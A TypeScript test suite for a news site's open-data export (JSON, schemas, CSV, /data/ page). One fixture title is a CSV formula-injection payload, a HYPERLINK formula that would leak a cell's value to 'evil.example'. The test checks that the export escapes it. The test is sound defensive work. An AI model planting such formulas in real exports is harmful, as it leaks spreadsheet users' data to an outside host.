/**
 * The open data (`/data/`) end to end: `npm run build` writes every file, each
 * JSON file valid against the JSON Schema written beside it (ajv, draft
 * 2020-12), the CSV readable by a CSV parser, with absolute URLs under the
 * path prefix; drafts and scheduled articles never appear; names in any
 * script come back as written; an empty archive writes valid empty files; the
 * `/data/` page lists every field of every schema; an alias cannot take a path
 * under `/data/`.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { before, describe, it } from "node:test";
import zlib from "node:zlib";
import { DATA_FILE_NAMES, fieldRows, ITEM_SCHEMAS } from "../../src/open-data/schemas.ts";
import { buildSite, listFiles, readPage } from "../helpers/build-site.ts";
import { tempDir, writeContent } from "../helpers/fixture.ts";
import { parseCsv, readDataFile, schemaErrors } from "../helpers/open-data.ts";
import { htmlErrors } from "../helpers/site-check.ts";

/** Before the scheduled article goes live. */
const NOW = "--now=2030-01-01T07:00:00Z";
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

const ARTICLES = [
  { path: "2029/12/forum.md", frontMatter: { title: "Forum opens in Baku", date: "2029-12-30", source: "AzerNews", people: ["Ilham Aliyev", "عبد الله الأحمد"], places: ["Azerbaijan", "Damascus"], summary: "Leaders, \"quoted\", met.\nTwo lines." } },
  { path: "2029/12/moscow.md", frontMatter: { title: "Делегация прибыла в Москву", date: "2029-12-20", source: "ТАСС", lang: "ru", people: ["Сергей Иванов"], places: ["Russia"] } },
  { path: "2029/11/hostile.md", frontMatter: { title: HOSTILE, date: "2029-11-02T10:00:00+03:00", source: "AzerNews", author: "+1 Desk", corrections: [{ date: "2029-11-03", text: "Fixed." }] } },
  { path: "2029/11/draft.md", frontMatter: { title: "Draft only story", date: "2029-11-05", source: "Draft Wire", people: ["Only Inthe Draft"], draft: true } },
  { path: "2030/01/summit.md", frontMatter: { title: "Embargoed summit statement", date: "2030-01-01T09:00:00+01:00", source: "Embargo Wire", people: ["Only Inthe Embargo"], places: ["Japan"] } },
];

const FILES = DATA_FILE_NAMES.flatMap((name) => [`data/${name}.csv`, `data/${name}.json`, `data/${name}.schema.json`]);

describe("open data in a build", () => {
  let output: string;

  before(() => {
    const content = writeContent(ARTICLES, { "site.yaml": "title: News\nurl: https://news.example.org\n" });
    const build = buildSite(content, { args: [NOW], pathPrefix: "/archive-site/" });
    assert.equal(build.status, 0, build.stderr);
    output = build.output;
  });

  it("should write the four JSON files, their schemas and the four CSV files into /data/, with the /data/ page", () => {
    const files = listFiles(output);
    for (const file of [...FILES, "data/index.html"]) assert.ok(files.includes(file), file);
    // No temporary file is left behind.
    assert.deepEqual(files.filter((file) => file.startsWith("data/")).sort(), [...FILES, "data/index.html"].sort());
  });

  it("should write JSON files that their own schemas accept, pointing at them with absolute URLs under the path prefix", () => {
    for (const name of DATA_FILE_NAMES) {
      const { data, schema } = readDataFile(output, name);
      assert.deepEqual(schemaErrors(schema, data), [], name);
      assert.equal(data.$schema, `https://news.example.org/archive-site/data/${name}.schema.json`);
      assert.equal((schema as { $id: string }).$id, data.$schema);
      assert.equal(data.count, data.items.length);
    }
    const { data } = readDataFile(output, "articles");
    assert.deepEqual(data.items.map((item) => item.id), ["2029/12/forum", "2029/12/moscow", "2029/11/hostile"]);
    assert.equal(data.items[0]!.url, "https://news.example.org/archive-site/articles/2029/12/forum/");
    assert.equal(data.items[2]!.date, "2029-11-02T10:00:00+03:00");
  });

  it("should never show a draft or a scheduled article, nor what only they name", () => {
    for (const file of FILES) {
      const text = fs.readFileSync(path.join(output, file), "utf8");
      for (const hidden of ["Draft only story", "Only Inthe Draft", "Draft Wire", "Embargoed summit", "Only Inthe Embargo", "Embargo Wire", "2030/01/summit", "Japan"]) {
        assert.ok(!text.includes(hidden), `${file} holds ${hidden}`);
      }
    }
  });

  it("should keep Arabic and Cyrillic names as written, in JSON and in CSV", () => {
    const people = readDataFile(output, "people").data.items.map((item) => item.name);
    assert.ok(people.includes("عبد الله الأحمد"));
    assert.ok(people.includes("Сергей Иванов"));
    const csv = fs.readFileSync(path.join(output, "data/articles.csv"), "utf8");
    assert.ok(csv.startsWith("\uFEFF"));
    const rows = parseCsv(csv.slice(1));
    const title = rows[0]!.indexOf("title");
    assert.equal(rows[2]![title], "Делегация прибыла в Москву");
    const sources = parseCsv(fs.readFileSync(path.join(output, "data/sources.csv"), "utf8").slice(1));
    assert.ok(sources.some((row) => row[1] === "ТАСС"));
  });

  it("should guard a formula in CSV with an apostrophe and keep the text exact in JSON", () => {
    const rows = parseCsv(fs.readFileSync(path.join(output, "data/articles.csv"), "utf8").slice(1));
    const header = rows[0]!;
    const hostile = rows.find((row) => row[0] === "2029/11/hostile")!;
    assert.equal(hostile[header.indexOf("title")], `'${HOSTILE}`);
    assert.equal(hostile[header.indexOf("author")], "'+1 Desk");
    assert.equal(hostile[header.indexOf("corrections")], "1");
    assert.equal(hostile[header.indexOf("last_corrected")], "2029-11-03");
    const forum = rows.find((row) => row[0] === "2029/12/forum")!;
    assert.equal(forum[header.indexOf("summary")], 'Leaders, "quoted", met.\nTwo lines.');
    assert.equal(forum[header.indexOf("countries")], "AZ | SY");
    const json = readDataFile(output, "articles").data.items.find((item) => item.id === "2029/11/hostile")!;
    assert.equal(json.title, HOSTILE);
  });

  it("should explain every field of every schema on the /data/ page, linking each file under the path prefix", async () => {
    const page = readPage(output, "/data/");
    for (const name of DATA_FILE_NAMES) {
      for (const extension of ["json", "csv", "schema.json"]) assert.ok(page.includes(`href="/archive-site/data/${name}.${extension}"`), `${name}.${extension}`);
      for (const row of fieldRows(ITEM_SCHEMAS[name])) assert.ok(page.includes(`<code dir="ltr">${row.name}</code>`), `${name}: ${row.name}`);
    }
    assert.ok(readPage(output, "/").includes('href="/archive-site/data/"'), "the footer links the page");
    assert.ok(fs.readFileSync(path.join(output, "sitemap.xml"), "utf8").includes("/archive-site/data/</loc>"));
    assert.deepEqual(await htmlErrors(output), []);
    // The page does not grow with the archive: its HTML and the stylesheet stay within the 20 KB (gzipped) budget.
    const weight = zlib.gzipSync(page).length + zlib.gzipSync(fs.readFileSync(path.join(output, "styles.css"))).length;
    assert.ok(weight < 20_000, `${weight} bytes gzipped`);
  });

  it("should write valid, empty files for a site with no articles (--allow-empty)", () => {
    const empty = tempDir("dateline-empty-");
    const build = buildSite(empty, { args: ["--allow-empty"] });
    assert.equal(build.status, 0, build.stderr);
    for (const name of DATA_FILE_NAMES) {
      const { data, schema } = readDataFile(build.output, name);
      assert.deepEqual(schemaErrors(schema, data), [], name);
      assert.deepEqual(data.items, []);
      assert.equal(parseCsv(fs.readFileSync(path.join(build.output, `data/${name}.csv`), "utf8").slice(1)).length, 1);
    }
  });

  it("should refuse an article alias under /data/, which the site needs", () => {
    const content = writeContent([{ path: "2024/12/a.md", frontMatter: { title: "A", date: "2024-12-30", source: "AzerNews", aliases: ["/data/old-articles/"] } }]);
    const build = buildSite(content);
    assert.notEqual(build.status, 0);
    assert.match(build.stderr, /\/data\//);
  });
});
